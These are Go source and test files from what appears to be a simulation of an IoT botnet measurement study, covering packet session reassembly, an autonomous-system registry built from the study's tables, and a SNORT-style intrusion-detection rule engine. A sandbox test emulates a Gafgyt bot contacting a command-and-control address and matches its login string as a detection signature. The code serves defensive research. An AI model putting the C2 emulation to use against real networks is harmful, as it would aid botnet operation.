	// Start and End bound the observed packets.
	Start, End time.Time
	// Packets is the record count (expanded bursts included).
	Packets int
	// ToResponder and ToInitiator are the reassembled payload
	// streams per direction, in arrival order.
	ToResponder []byte
	ToInitiator []byte
}

// Duration is End minus Start.
func (s *Session) Duration() time.Duration { return s.End.Sub(s.Start) }

// Sessions groups records into conversations by canonical flow.
// Records without ports (ICMP) group per src/dst address pair.
// Sessions are returned in order of first packet.
func Sessions(records []simnet.PacketRecord) []*Session {
	byKey := map[packet.Flow]*Session{}
	var order []*Session
	for _, rec := range records {
		f := packet.Flow{
			Src: packet.Endpoint{IP: rec.Src.IP, Port: rec.Src.Port, HasPort: rec.Proto != simnet.ProtoICMP},
			Dst: packet.Endpoint{IP: rec.Dst.IP, Port: rec.Dst.Port, HasPort: rec.Proto != simnet.ProtoICMP},
		}
		key := f.Canonical()
		s := byKey[key]
		if s == nil {
			s = &Session{
				Flow:      key,
				Initiator: rec.Src,
				Responder: rec.Dst,
				Start:     rec.Time,
				End:       rec.Time,
			}
			byKey[key] = s
			order = append(order, s)
		}
		if rec.Time.Before(s.Start) {
			s.Start = rec.Time
		}
		if rec.Time.After(s.End) {
			s.End = rec.Time
		}
		s.Packets += rec.Count
		if len(rec.Payload) > 0 {
			if rec.Src == s.Initiator {
				s.ToResponder = append(s.ToResponder, rec.Payload...)
			} else {
				s.ToInitiator = append(s.ToInitiator, rec.Payload...)
			}
		}
	}
	sort.SliceStable(order, func(i, j int) bool { return order[i].Start.Before(order[j].Start) })
	return order
}
