package flow

import (
	"bytes"
	"math/rand"
	"strings"
	"testing"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/pcap"
	"malnet/internal/sandbox"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

var t0 = time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC)

func rec(ts time.Time, src, dst simnet.Addr, proto simnet.Protocol, payload string) simnet.PacketRecord {
	return simnet.PacketRecord{
		Time: ts, Src: src, Dst: dst, Proto: proto,
		Payload: []byte(payload), Size: len(payload) + 40, Count: 1,
	}
}

func TestRecordFrameRoundTrip(t *testing.T) {
	orig := rec(t0, simnet.AddrFrom("10.0.0.1", 4000), simnet.AddrFrom("60.0.0.9", 23), simnet.ProtoTCP, "login")
	orig.Flags = simnet.FlagPSH | simnet.FlagACK
	frame, err := pcap.FrameFromRecord(orig)
	if err != nil {
		t.Fatal(err)
	}
	got, err := RecordFromFrame(t0, frame)
	if err != nil {
		t.Fatal(err)
	}
	if got.Src != orig.Src || got.Dst != orig.Dst || got.Proto != orig.Proto {
		t.Fatalf("got %+v", got)
	}
	if got.Flags != orig.Flags {
		t.Fatalf("flags = %v, want %v", got.Flags, orig.Flags)
	}
	if !bytes.Equal(got.Payload, orig.Payload) {
		t.Fatalf("payload = %q", got.Payload)
	}
}

func TestSessionsReassembleBothDirections(t *testing.T) {
	cli := simnet.AddrFrom("10.0.0.1", 4000)
	srv := simnet.AddrFrom("60.0.0.9", 23)
	records := []simnet.PacketRecord{
		rec(t0, cli, srv, simnet.ProtoTCP, "hello "),
		rec(t0.Add(time.Second), srv, cli, simnet.ProtoTCP, "PING"),
		rec(t0.Add(2*time.Second), cli, srv, simnet.ProtoTCP, "world"),
		// A second, unrelated conversation.
		rec(t0.Add(3*time.Second), simnet.AddrFrom("10.0.0.1", 4001), simnet.AddrFrom("61.0.0.2", 80), simnet.ProtoTCP, "GET /"),
	}
	sessions := Sessions(records)
	if len(sessions) != 2 {
		t.Fatalf("sessions = %d, want 2", len(sessions))
	}
	s := sessions[0]
	if s.Initiator != cli || s.Responder != srv {
		t.Fatalf("roles: %v -> %v", s.Initiator, s.Responder)
	}
	if string(s.ToResponder) != "hello world" {
		t.Fatalf("client stream = %q", s.ToResponder)
	}
	if string(s.ToInitiator) != "PING" {
		t.Fatalf("server stream = %q", s.ToInitiator)
	}
	if s.Packets != 3 || s.Duration() != 2*time.Second {
		t.Fatalf("packets=%d duration=%v", s.Packets, s.Duration())
	}
}

func TestSessionsMergeBothDirectionsUnderOneKey(t *testing.T) {
	a := simnet.AddrFrom("10.0.0.1", 1000)
	b := simnet.AddrFrom("10.0.0.2", 2000)
	sessions := Sessions([]simnet.PacketRecord{
		rec(t0, a, b, simnet.ProtoUDP, "x"),
		rec(t0.Add(time.Second), b, a, simnet.ProtoUDP, "y"),
	})
	if len(sessions) != 1 {
		t.Fatalf("sessions = %d, want 1 (canonical key)", len(sessions))
	}
}

func TestSessionsICMPGroupsByAddressPair(t *testing.T) {
	a := simnet.Addr{IP: simnet.AddrFrom("10.0.0.1", 0).IP}
	b := simnet.Addr{IP: simnet.AddrFrom("70.0.0.9", 0).IP}
	var records []simnet.PacketRecord
	for i := 0; i < 5; i++ {
		r := rec(t0.Add(time.Duration(i)*time.Second), a, b, simnet.ProtoICMP, "")
		r.ICMPTyp, r.ICMPCod = 3, 3
		records = append(records, r)
	}
	sessions := Sessions(records)
	if len(sessions) != 1 || sessions[0].Packets != 5 {
		t.Fatalf("sessions = %+v", sessions)
	}
}

func TestReadRecordsFromSandboxCapture(t *testing.T) {
	// End to end: run a sample, export pcap, read it back, and find
	// the C2 conversation as a session.
	clock := simclock.New(t0)
	n := simnet.New(clock, simnet.DefaultConfig())
	sb := sandbox.New(n, sandbox.Config{Seed: 1})
	raw, err := binfmt.Encode(binfmt.BotConfig{
		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"60.0.0.9:666"},
	}, rand.New(rand.NewSource(4)), nil)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := sb.Run(raw, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 10 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := rep.WritePCAP(&buf, 4); err != nil {
		t.Fatal(err)
	}
	records, err := ReadRecords(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(records) == 0 {
		t.Fatal("no records")
	}
	sessions := Sessions(records)
	found := false
	for _, s := range sessions {
		if s.Responder.Port == 666 && strings.Contains(string(s.ToResponder), "BUILD GAFGYT") {
			found = true
		}
	}
	if !found {
		t.Fatal("C2 login not reassembled from the capture")
	}
}

func TestReadRecordsRejectsWrongLink(t *testing.T) {
	var buf bytes.Buffer
	// Craft a pcap header with a different link type.
	w := pcap.NewWriter(&buf)
	w.Flush()
	raw := buf.Bytes()
	raw[20] = 1 // LINKTYPE_ETHERNET
	if _, err := ReadRecords(bytes.NewReader(raw)); err == nil {
		t.Fatal("wrong link type accepted")
	}
}
