// Package geo provides the Autonomous System registry the
// measurement pipeline resolves addresses against: ASN metadata
// (name, country, hosting type, anti-DDoS and crypto-payment
// attributes from Table 2), prefix-to-ASN lookup, and deterministic
// address allocation inside an AS for world generation.
package geo

import (
	"fmt"
	"math/rand"
	"net/netip"
	"sort"
)

// ASType categorizes an autonomous system, the dimension Figure 12
// groups DDoS targets by.
type ASType uint8

// AS categories.
const (
	TypeHosting ASType = iota
	TypeISP
	TypeBusiness
)

// String names the category.
func (t ASType) String() string {
	switch t {
	case TypeHosting:
		return "Hosting"
	case TypeISP:
		return "ISP"
	case TypeBusiness:
		return "Business"
	}
	return fmt.Sprintf("ASType(%d)", uint8(t))
}

// AS is one autonomous system.
type AS struct {
	ASN     int
	Name    string
	Country string // ISO 3166-1 alpha-2
	Type    ASType
	// AntiDDoS reports whether the provider sells DDoS protection
	// (Table 2's ironic column). Nil-equivalent "N/A" is false with
	// Unknown set.
	AntiDDoS bool
	// Unknown marks providers that publish no information
	// (AS211252 in Table 2).
	Unknown bool
	// AcceptsCrypto marks providers taking cryptocurrency payment.
	AcceptsCrypto bool
	// Gaming marks ASes specialized in the computer-gaming
	// industry (18 % of DDoS-target ASes in §5.3).
	Gaming bool
	// Top100 marks ASes among the top-100 by advertised IPv4 space
	// (Appendix A: Google, Amazon, Alibaba).
	Top100 bool
	// Prefixes is the address space announced by the AS.
	Prefixes []netip.Prefix
}

// Registry maps addresses to ASes.
type Registry struct {
	byASN map[int]*AS
	// sorted prefix index for lookup
	prefixes []prefixEntry
	sorted   bool
}

type prefixEntry struct {
	prefix netip.Prefix
	as     *AS
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{byASN: make(map[int]*AS)}
}

// Register adds an AS. Registering an existing ASN merges prefixes.
func (r *Registry) Register(as *AS) *AS {
	if have, ok := r.byASN[as.ASN]; ok {
		have.Prefixes = append(have.Prefixes, as.Prefixes...)
		for _, p := range as.Prefixes {
			r.prefixes = append(r.prefixes, prefixEntry{p, have})
		}
		r.sorted = false
		return have
	}
	r.byASN[as.ASN] = as
	for _, p := range as.Prefixes {
		r.prefixes = append(r.prefixes, prefixEntry{p, as})
	}
	r.sorted = false
	return as
}

// ByASN returns the AS with the given number, or nil.
func (r *Registry) ByASN(asn int) *AS { return r.byASN[asn] }

// All returns every registered AS ordered by ASN.
func (r *Registry) All() []*AS {
	out := make([]*AS, 0, len(r.byASN))
	for _, as := range r.byASN {
		out = append(out, as)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ASN < out[j].ASN })
	return out
}

// Len returns the number of registered ASes.
func (r *Registry) Len() int { return len(r.byASN) }

func (r *Registry) ensureSorted() {
	if r.sorted {
		return
	}
	sort.Slice(r.prefixes, func(i, j int) bool {
		a, b := r.prefixes[i].prefix, r.prefixes[j].prefix
		if a.Addr() != b.Addr() {
			return a.Addr().Less(b.Addr())
		}
		return a.Bits() > b.Bits() // longer (more specific) first
	})
	r.sorted = true
}

// Lookup resolves ip to its announcing AS (longest prefix wins).
func (r *Registry) Lookup(ip netip.Addr) (*AS, bool) {
	r.ensureSorted()
	// The registry is small (hundreds of prefixes); a linear scan
	// preferring the most specific match is plenty and avoids a
	// trie.
	var best *AS
	bestBits := -1
	for _, e := range r.prefixes {
		if e.prefix.Contains(ip) && e.prefix.Bits() > bestBits {
			best, bestBits = e.as, e.prefix.Bits()
		}
	}
	return best, best != nil
}

// AddrAt returns the i-th host address of the AS's address space,
// spanning prefixes in order. It panics when the AS announces no
// space.
func (a *AS) AddrAt(i int) netip.Addr {
	if len(a.Prefixes) == 0 {
		panic(fmt.Sprintf("geo: AS%d has no prefixes", a.ASN))
	}
	for _, p := range a.Prefixes {
		size := 1 << (32 - p.Bits())
		usable := size - 2
		if usable < 1 {
			usable = size
		}
		if i < usable {
			base := p.Masked().Addr().As4()
			u := uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3])
			off := uint32(i)
			if usable != size {
				off++ // skip network address
			}
			u += off
			return netip.AddrFrom4([4]byte{byte(u >> 24), byte(u >> 16), byte(u >> 8), byte(u)})
		}
		i -= usable
	}
	panic(fmt.Sprintf("geo: address index out of range for AS%d", a.ASN))
}

// RandomAddr draws a deterministic random host address from the AS's
// space.
func (a *AS) RandomAddr(rng *rand.Rand) netip.Addr {
	total := 0
	for _, p := range a.Prefixes {
		size := 1 << (32 - p.Bits())
		if size > 2 {
			size -= 2
		}
		total += size
	}
	return a.AddrAt(rng.Intn(total))
}
