package geo

import (
	"math/rand"
	"net/netip"
	"testing"
	"testing/quick"
)

func TestRegisterAndLookup(t *testing.T) {
	r := NewRegistry()
	as := r.Register(&AS{ASN: 64500, Name: "Test", Country: "US", Prefixes: []netip.Prefix{netip.MustParsePrefix("203.0.113.0/24")}})
	got, ok := r.Lookup(netip.MustParseAddr("203.0.113.9"))
	if !ok || got != as {
		t.Fatalf("Lookup = %v, %v", got, ok)
	}
	if _, ok := r.Lookup(netip.MustParseAddr("198.51.100.1")); ok {
		t.Fatal("lookup outside any prefix succeeded")
	}
}

func TestLookupLongestPrefixWins(t *testing.T) {
	r := NewRegistry()
	big := r.Register(&AS{ASN: 1, Prefixes: []netip.Prefix{netip.MustParsePrefix("60.0.0.0/8")}})
	small := r.Register(&AS{ASN: 2, Prefixes: []netip.Prefix{netip.MustParsePrefix("60.1.0.0/16")}})
	if got, _ := r.Lookup(netip.MustParseAddr("60.1.2.3")); got != small {
		t.Fatalf("got AS%d, want AS2", got.ASN)
	}
	if got, _ := r.Lookup(netip.MustParseAddr("60.2.2.3")); got != big {
		t.Fatalf("got AS%d, want AS1", got.ASN)
	}
}

func TestRegisterMergesPrefixes(t *testing.T) {
	r := NewRegistry()
	r.Register(&AS{ASN: 9, Prefixes: []netip.Prefix{netip.MustParsePrefix("60.0.0.0/16")}})
	r.Register(&AS{ASN: 9, Prefixes: []netip.Prefix{netip.MustParsePrefix("61.0.0.0/16")}})
	if r.Len() != 1 {
		t.Fatalf("Len = %d", r.Len())
	}
	if got, ok := r.Lookup(netip.MustParseAddr("61.0.0.5")); !ok || got.ASN != 9 {
		t.Fatalf("merged prefix not found: %v %v", got, ok)
	}
}

func TestAddrAtSkipsNetworkAddress(t *testing.T) {
	as := &AS{ASN: 1, Prefixes: []netip.Prefix{netip.MustParsePrefix("203.0.113.0/24")}}
	if got := as.AddrAt(0); got != netip.MustParseAddr("203.0.113.1") {
		t.Fatalf("AddrAt(0) = %v", got)
	}
	if got := as.AddrAt(253); got != netip.MustParseAddr("203.0.113.254") {
		t.Fatalf("AddrAt(253) = %v", got)
	}
}

func TestAddrAtSpansPrefixes(t *testing.T) {
	as := &AS{ASN: 1, Prefixes: []netip.Prefix{
		netip.MustParsePrefix("203.0.113.0/30"), // 2 usable
		netip.MustParsePrefix("198.51.100.0/24"),
	}}
	if got := as.AddrAt(2); got != netip.MustParseAddr("198.51.100.1") {
		t.Fatalf("AddrAt(2) = %v", got)
	}
}

func TestRandomAddrInsideAS(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	as := &AS{ASN: 1, Prefixes: []netip.Prefix{netip.MustParsePrefix("203.0.113.0/24")}}
	for i := 0; i < 100; i++ {
		ip := as.RandomAddr(rng)
		if !as.Prefixes[0].Contains(ip) {
			t.Fatalf("RandomAddr %v outside prefix", ip)
		}
	}
}

func TestTop10MatchesTable2(t *testing.T) {
	top := Top10C2ASes()
	if len(top) != 10 {
		t.Fatalf("len = %d", len(top))
	}
	byASN := map[int]*AS{}
	for _, as := range top {
		byASN[as.ASN] = as
	}
	if as := byASN[36352]; as == nil || as.Name != "ColoCrossing" || as.Country != "US" || !as.AntiDDoS {
		t.Fatalf("ColoCrossing row wrong: %+v", as)
	}
	if as := byASN[139884]; as == nil || as.AntiDDoS {
		t.Fatal("Apeiron Global must not offer anti-DDoS (Table 2)")
	}
	if as := byASN[211252]; as == nil || !as.Unknown {
		t.Fatal("Delis LLC must be marked unknown (no website info)")
	}
	// 70% of the top providers are in US, RU, NL (Table 2 analysis).
	cc := map[string]int{}
	for _, as := range top {
		cc[as.Country]++
	}
	if got := cc["US"] + cc["RU"] + cc["NL"]; got != 7 {
		t.Fatalf("US+RU+NL = %d, want 7", got)
	}
	// 30% accept crypto: AS53667, AS202306, AS44812.
	crypto := 0
	for _, as := range top {
		if as.AcceptsCrypto {
			crypto++
		}
	}
	if crypto != 3 {
		t.Fatalf("crypto acceptors = %d, want 3", crypto)
	}
	// All are hosting providers.
	for _, as := range top {
		if as.Type != TypeHosting {
			t.Fatalf("AS%d type = %v, want Hosting", as.ASN, as.Type)
		}
	}
}

func TestVictimASShares(t *testing.T) {
	victims := VictimASes()
	if len(victims) != 23 {
		t.Fatalf("victim ASes = %d, want 23", len(victims))
	}
	var isp, hosting, gaming int
	countries := map[string]bool{}
	for _, as := range victims {
		countries[as.Country] = true
		switch as.Type {
		case TypeISP:
			isp++
		case TypeHosting:
			hosting++
		}
		if as.Gaming {
			gaming++
		}
	}
	// Paper: 45% ISP, 36% hosting, 18% gaming of 23 ASes.
	if isp != 10 || hosting != 8 || gaming != 4 {
		t.Fatalf("isp=%d hosting=%d gaming=%d", isp, hosting, gaming)
	}
	if len(countries) != 11 {
		t.Fatalf("countries = %d, want 11", len(countries))
	}
}

func TestStandardRegistryReaches128(t *testing.T) {
	r := StandardRegistry(128, rand.New(rand.NewSource(1)))
	if r.Len() != 128 {
		t.Fatalf("Len = %d, want 128", r.Len())
	}
	// Every AS must have resolvable space.
	for _, as := range r.All() {
		ip := as.AddrAt(0)
		got, ok := r.Lookup(ip)
		if !ok || got.ASN != as.ASN {
			t.Fatalf("AddrAt(0) of AS%d resolves to %v", as.ASN, got)
		}
	}
}

func TestQuickAddrAtAlwaysInsidePrefixes(t *testing.T) {
	as := &AS{ASN: 1, Prefixes: []netip.Prefix{
		netip.MustParsePrefix("60.0.0.0/24"),
		netip.MustParsePrefix("61.0.0.0/24"),
	}}
	f := func(i uint16) bool {
		idx := int(i) % 508 // 254*2 usable
		ip := as.AddrAt(idx)
		return as.Prefixes[0].Contains(ip) || as.Prefixes[1].Contains(ip)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
