package geo

import (
	"fmt"
	"math/rand"
	"net/netip"
)

// Top10C2ASes returns Table 2's ten autonomous systems that together
// hosted 69.7 % of observed C2 servers, with the attributes the paper
// records (country, hosting, anti-DDoS, crypto payment). Prefixes
// are synthetic /16 allocations inside 60.0.0.0/8 and up; the study
// only needs consistent ip->ASN resolution, not real routing data.
func Top10C2ASes() []*AS {
	mk := func(asn int, name, cc string, anti, unknown, crypto bool, slot int) *AS {
		return &AS{
			ASN: asn, Name: name, Country: cc, Type: TypeHosting,
			AntiDDoS: anti, Unknown: unknown, AcceptsCrypto: crypto,
			Prefixes: []netip.Prefix{synthPrefix(slot)},
		}
	}
	return []*AS{
		mk(36352, "ColoCrossing", "US", true, false, false, 0),
		mk(211252, "Delis LLC", "US", false, true, false, 1),
		mk(14061, "DigitalOcean", "US", true, false, false, 2),
		mk(53667, "FranTech Solutions", "LU", true, false, true, 3),
		mk(202306, "HOSTGLOBAL", "RU", true, false, true, 4),
		mk(399471, "Serverion LLC", "NL", true, false, false, 5),
		mk(16276, "OVH SAS", "FR", true, false, false, 6),
		mk(44812, "IP SERVER LLC", "RU", true, false, true, 7),
		mk(139884, "Apeiron Global", "IN", false, false, false, 8),
		mk(50673, "Serverius", "NL", true, false, false, 9),
	}
}

// BigCloudASes returns the three top-100 ASes Appendix A notes also
// hosted C2s: Google, Amazon, Alibaba.
func BigCloudASes() []*AS {
	return []*AS{
		{ASN: 15169, Name: "Google LLC", Country: "US", Type: TypeBusiness, Top100: true, Prefixes: []netip.Prefix{synthPrefix(10)}},
		{ASN: 16509, Name: "Amazon.com Inc", Country: "US", Type: TypeBusiness, Top100: true, Prefixes: []netip.Prefix{synthPrefix(11)}},
		{ASN: 37963, Name: "Hangzhou Alibaba Advertising", Country: "CN", Type: TypeBusiness, Top100: true, Prefixes: []netip.Prefix{synthPrefix(12)}},
	}
}

// VictimASes returns the target-side ASes of §5.3: ISPs, hosting
// providers (some gaming-specialized), and the named businesses
// (Google and Amazon reuse the BigCloud entries; Roblox is added
// here). Counts are shaped to the paper: 23 target ASes across 11
// countries, 45 % ISP, 36 % hosting, 18 % gaming-specialized.
func VictimASes() []*AS {
	specs := []struct {
		asn    int
		name   string
		cc     string
		typ    ASType
		gaming bool
	}{
		// 10 ISPs (45% of 23)
		{7018, "AT&T Services", "US", TypeISP, false},
		{3320, "Deutsche Telekom", "DE", TypeISP, false},
		{3215, "Orange", "FR", TypeISP, false},
		{12322, "Free SAS", "FR", TypeISP, false},
		{6830, "Liberty Global", "NL", TypeISP, false},
		{5089, "Virgin Media", "GB", TypeISP, false},
		{852, "TELUS", "CA", TypeISP, false},
		{8452, "Telecom Egypt", "EG", TypeISP, false},
		{9121, "Turk Telekom", "TR", TypeISP, false},
		{4766, "Korea Telecom", "KR", TypeISP, false},
		// 8 hosting, 3 of them gaming-specialized
		{14586, "Nuclearfallout Enterprises", "US", TypeHosting, true},
		{9009, "M247", "RO", TypeHosting, false},
		{24940, "Hetzner Online", "DE", TypeHosting, false},
		{20473, "The Constant Company", "US", TypeHosting, false},
		{62240, "Clouvider", "GB", TypeHosting, false},
		{212317, "GSL Networks", "AU", TypeHosting, true},
		{35913, "DediPath", "US", TypeHosting, false},
		{64476, "GamePort Servers", "NL", TypeHosting, true},
		// 5 businesses, 1 gaming
		{15169, "Google LLC", "US", TypeBusiness, false},
		{16509, "Amazon.com Inc", "US", TypeBusiness, false},
		{22697, "Roblox", "US", TypeBusiness, true},
		{2906, "Netflix", "US", TypeBusiness, false},
		{32934, "Meta Platforms", "US", TypeBusiness, false},
	}
	out := make([]*AS, 0, len(specs))
	for i, s := range specs {
		out = append(out, &AS{
			ASN: s.asn, Name: s.name, Country: s.cc, Type: s.typ,
			Gaming:   s.gaming,
			Top100:   s.asn == 15169 || s.asn == 16509,
			Prefixes: []netip.Prefix{synthPrefix(20 + i)},
		})
	}
	return out
}

// FillerASes generates n additional small hosting/ISP ASes so the
// C2 long tail spans the paper's 128 total ASes.
func FillerASes(n int, rng *rand.Rand) []*AS {
	countries := []string{"US", "RU", "NL", "DE", "CN", "BR", "VN", "IN", "FR", "RO", "UA", "TR", "ID", "KR", "GB"}
	out := make([]*AS, 0, n)
	for i := 0; i < n; i++ {
		typ := TypeHosting
		if rng.Intn(3) == 0 {
			typ = TypeISP
		}
		out = append(out, &AS{
			ASN:      400000 + i,
			Name:     fmt.Sprintf("Filler Networks %03d", i),
			Country:  countries[rng.Intn(len(countries))],
			Type:     typ,
			AntiDDoS: rng.Intn(2) == 0,
			Prefixes: []netip.Prefix{synthPrefix(60 + i)},
		})
	}
	return out
}

// synthPrefix returns the slot-th synthetic /16. Slots 0..~12000 map
// into 60.0.0.0/8 through 107.255.0.0/16, well clear of the
// 10.0.0.0/8 space world generation uses for victims and sandboxes.
func synthPrefix(slot int) netip.Prefix {
	hi := 60 + slot/256
	lo := slot % 256
	if hi > 107 {
		panic(fmt.Sprintf("geo: synthetic prefix slot %d out of space", slot))
	}
	return netip.PrefixFrom(netip.AddrFrom4([4]byte{byte(hi), byte(lo), 0, 0}), 16)
}

// StandardRegistry assembles the full study registry: Table 2's top
// ten, the big clouds, the victim ASes, and filler ASes to reach
// total (Appendix A: 128 ASes appeared in the dataset).
func StandardRegistry(total int, rng *rand.Rand) *Registry {
	r := NewRegistry()
	for _, as := range Top10C2ASes() {
		r.Register(as)
	}
	for _, as := range BigCloudASes() {
		r.Register(as)
	}
	for _, as := range VictimASes() {
		r.Register(as)
	}
	if missing := total - r.Len(); missing > 0 {
		for _, as := range FillerASes(missing, rng) {
			r.Register(as)
		}
	}
	return r
}
