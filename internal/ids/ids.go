// Package ids is a small SNORT-style intrusion-detection engine for
// the virtual network: content rules, address blocklist rules, and
// packet-rate rules, matched against simnet packet records. It plays
// two roles from the paper: the containment IDS at the sandbox
// perimeter (§2.6 uses SNORT), and the vehicle for the study's
// "potential impact" — turning profiles of freshly-caught binaries
// into firewall rules (§1: "secure the network, through firewall
// rules").
package ids

import (
	"bytes"
	"fmt"
	"net/netip"
	"sort"
	"strconv"
	"strings"
	"time"

	"malnet/internal/simnet"
)

// Action is what a matching rule does.
type Action uint8

// Rule actions.
const (
	// ActionAlert logs the event.
	ActionAlert Action = iota
	// ActionDrop blocks the traffic (egress gating).
	ActionDrop
)

// String names the action in rule syntax.
func (a Action) String() string {
	if a == ActionDrop {
		return "drop"
	}
	return "alert"
}

// Rule is one detection rule. Zero-valued match fields are
// wildcards.
type Rule struct {
	// SID is the rule's unique id.
	SID int
	// Action taken on match.
	Action Action
	// Msg describes the event.
	Msg string
	// Proto restricts the transport ("tcp", "udp", "icmp", "ip" =
	// any).
	Proto string
	// DstIP restricts the destination address.
	DstIP netip.Addr
	// DstPort restricts the destination port.
	DstPort uint16
	// Content must appear in the payload.
	Content []byte
	// MinPPS fires on burst records at or above this packet rate.
	MinPPS float64
}

// Matches reports whether the rule matches a packet record.
func (r *Rule) Matches(rec simnet.PacketRecord) bool {
	switch r.Proto {
	case "", "ip":
	case "tcp":
		if rec.Proto != simnet.ProtoTCP {
			return false
		}
	case "udp":
		if rec.Proto != simnet.ProtoUDP {
			return false
		}
	case "icmp":
		if rec.Proto != simnet.ProtoICMP {
			return false
		}
	default:
		return false
	}
	if r.DstIP.IsValid() && rec.Dst.IP != r.DstIP {
		return false
	}
	if r.DstPort != 0 && rec.Dst.Port != r.DstPort {
		return false
	}
	if len(r.Content) > 0 && !bytes.Contains(rec.Payload, r.Content) {
		return false
	}
	if r.MinPPS > 0 && rec.PPS() < r.MinPPS {
		return false
	}
	return true
}

// Render prints the rule in SNORT-like syntax.
func (r *Rule) Render() string {
	proto := r.Proto
	if proto == "" {
		proto = "ip"
	}
	dst := "any"
	if r.DstIP.IsValid() {
		dst = r.DstIP.String()
	}
	dport := "any"
	if r.DstPort != 0 {
		dport = strconv.Itoa(int(r.DstPort))
	}
	var opts []string
	opts = append(opts, fmt.Sprintf("msg:%q", r.Msg))
	if len(r.Content) > 0 {
		opts = append(opts, fmt.Sprintf("content:%q", string(r.Content)))
	}
	if r.MinPPS > 0 {
		opts = append(opts, fmt.Sprintf("rate:%g", r.MinPPS))
	}
	opts = append(opts, fmt.Sprintf("sid:%d", r.SID))
	return fmt.Sprintf("%s %s any any -> %s %s (%s;)", r.Action, proto, dst, dport, strings.Join(opts, "; "))
}

// Parse reads one rule in the Render format — a 7-field header
// "action proto srcIP srcPort -> dstIP dstPort" followed by a
// parenthesized option block. It accepts exactly the dialect this
// package emits (round-trip property), not full SNORT.
func Parse(line string) (*Rule, error) {
	line = strings.TrimSpace(line)
	if line == "" || strings.HasPrefix(line, "#") {
		return nil, fmt.Errorf("ids: empty rule")
	}
	open := strings.IndexByte(line, '(')
	if open < 0 || !strings.HasSuffix(line, ")") {
		return nil, fmt.Errorf("ids: missing option block: %q", line)
	}
	head := strings.Fields(line[:open])
	if len(head) != 7 || head[4] != "->" {
		return nil, fmt.Errorf("ids: malformed header: %q", line)
	}
	r := &Rule{}
	switch head[0] {
	case "alert":
		r.Action = ActionAlert
	case "drop":
		r.Action = ActionDrop
	default:
		return nil, fmt.Errorf("ids: unknown action %q", head[0])
	}
	r.Proto = head[1]
	if head[1] == "ip" {
		r.Proto = ""
	}
	if head[2] != "any" || head[3] != "any" {
		return nil, fmt.Errorf("ids: unsupported source constraint: %q", line)
	}
	if dstIP := head[5]; dstIP != "any" {
		ip, err := netip.ParseAddr(dstIP)
		if err != nil {
			return nil, fmt.Errorf("ids: bad dst ip %q", dstIP)
		}
		r.DstIP = ip
	}
	if dstPort := head[6]; dstPort != "any" {
		p, err := strconv.ParseUint(dstPort, 10, 16)
		if err != nil {
			return nil, fmt.Errorf("ids: bad dst port %q", dstPort)
		}
		r.DstPort = uint16(p)
	}
	opts := line[open+1 : len(line)-1]
	for _, opt := range splitOpts(opts) {
		k, v, ok := strings.Cut(opt, ":")
		if !ok {
			continue
		}
		k = strings.TrimSpace(k)
		v = strings.TrimSpace(v)
		switch k {
		case "msg":
			r.Msg = unquote(v)
		case "content":
			r.Content = []byte(unquote(v))
		case "sid":
			sid, err := strconv.Atoi(v)
			if err != nil {
				return nil, fmt.Errorf("ids: bad sid %q", v)
			}
			r.SID = sid
		case "rate":
			f, err := strconv.ParseFloat(v, 64)
			if err != nil {
				return nil, fmt.Errorf("ids: bad rate %q", v)
			}
			r.MinPPS = f
		}
	}
	return r, nil
}

// splitOpts splits "k:v; k:v;" respecting quoted strings.
func splitOpts(s string) []string {
	var out []string
	depth := false
	start := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '"':
			if i == 0 || s[i-1] != '\\' {
				depth = !depth
			}
		case ';':
			if !depth {
				out = append(out, s[start:i])
				start = i + 1
			}
		}
	}
	if strings.TrimSpace(s[start:]) != "" {
		out = append(out, s[start:])
	}
	return out
}

func unquote(s string) string {
	if u, err := strconv.Unquote(s); err == nil {
		return u
	}
	return s
}

// Alert is one rule hit.
type Alert struct {
	Time time.Time
	SID  int
	Msg  string
	Rec  simnet.PacketRecord
}

// Engine evaluates a rule set against traffic.
type Engine struct {
	rules  []*Rule
	Alerts []Alert
	// MaxAlerts bounds memory; 0 means 10000.
	MaxAlerts int
}

// NewEngine builds an engine over rules.
func NewEngine(rules []*Rule) *Engine {
	sorted := append([]*Rule(nil), rules...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].SID < sorted[j].SID })
	return &Engine{rules: sorted}
}

// Rules returns the engine's rules ordered by SID.
func (e *Engine) Rules() []*Rule { return e.rules }

// Inspect evaluates one record, logging alerts and returning the
// verdict: false when a drop rule matched.
func (e *Engine) Inspect(at time.Time, rec simnet.PacketRecord) bool {
	pass := true
	for _, r := range e.rules {
		if !r.Matches(rec) {
			continue
		}
		max := e.MaxAlerts
		if max == 0 {
			max = 10000
		}
		if len(e.Alerts) < max {
			e.Alerts = append(e.Alerts, Alert{Time: at, SID: r.SID, Msg: r.Msg, Rec: rec})
		}
		if r.Action == ActionDrop {
			pass = false
		}
	}
	return pass
}

// EgressGate adapts the engine into a simnet egress policy for a
// host: drop-rule matches are contained at the perimeter.
func (e *Engine) EgressGate(clock interface{ Now() time.Time }) func(dst simnet.Addr, proto simnet.Protocol) bool {
	return func(dst simnet.Addr, proto simnet.Protocol) bool {
		rec := simnet.PacketRecord{Dst: dst, Proto: proto, Count: 1}
		return e.Inspect(clock.Now(), rec)
	}
}

// RenderAll prints every rule, one per line.
func RenderAll(rules []*Rule) string {
	var sb strings.Builder
	for _, r := range rules {
		sb.WriteString(r.Render())
		sb.WriteByte('\n')
	}
	return sb.String()
}

// ParseAll reads rules emitted by RenderAll, skipping blank and
// comment lines.
func ParseAll(text string) ([]*Rule, error) {
	var out []*Rule
	for _, line := range strings.Split(text, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		r, err := Parse(line)
		if err != nil {
			return nil, err
		}
		out = append(out, r)
	}
	return out, nil
}
