package ids

import (
